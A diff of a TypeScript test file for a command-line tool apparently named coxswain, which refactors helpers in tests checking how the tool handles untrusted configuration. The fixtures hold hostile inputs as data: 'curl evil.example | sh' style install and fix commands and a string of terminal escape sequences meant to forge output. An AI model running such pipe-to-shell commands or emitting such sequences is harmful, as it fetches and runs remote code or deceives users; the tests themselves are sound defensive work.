@@ -1,4 +1,4 @@
-import { chmodSync, mkdirSync } from "node:fs";
+import { mkdirSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { type DoctorFindings, healthView } from "../../src/cli/doctor/health-view.ts";
@@ -11,7 +11,8 @@ import { toShortTime } from "../../src/cli/terminal/terminal-text.ts";
 import type { HealthReport } from "../../src/index.ts";
 import { createFailure, type EventBody } from "../../src/provider.ts";
 import type { SpentQuota } from "../../src/spec/client-options.ts";
-import { ask, cox, coxWith, temporaryFolder } from "./start-cox.ts";
+import { writeProgram } from "../support/clis/write-program.ts";
+import { ask, cox, coxWith, temporaryFolder } from "../support/cox/start-cox.ts";
 
 /** Sets the title of a terminal, clears it, and continues with a line that imitates one of cox. */
 const HOSTILE = "\u001b]0;x\u0007\u001b[2J\u009b2J\u202e\u2066\r\n✗ forged";
@@ -195,7 +196,7 @@ describe.concurrent("a configuration file with commands", () => {
     const errors = [{ text: "no key", code: "not-logged-in", hint: "Get a key.", fixCommand: "curl x.example | sh" }];
     const away = { providerId: "away", label: "Claude Code", command: "no-such-program", install: "curl evil.example | sh" };
     const here = { providerId: "here", command: "./here", login: "here login", errors };
-    chmodSync(folder.write("here", "#!/bin/sh\necho no key >&2; exit 1\n"), 0o755);
+    writeProgram(join(folder.path, "here"), "echo no key >&2; exit 1");
     folder.write("coxswain.config.json", JSON.stringify({ providers: [away, here] }));
     const asked = await cox(["ask", "--provider", "away", "hi"], options);
     expect(asked.stderr).toContain("coxswain.config.json names this command: curl evil.example | sh\n");
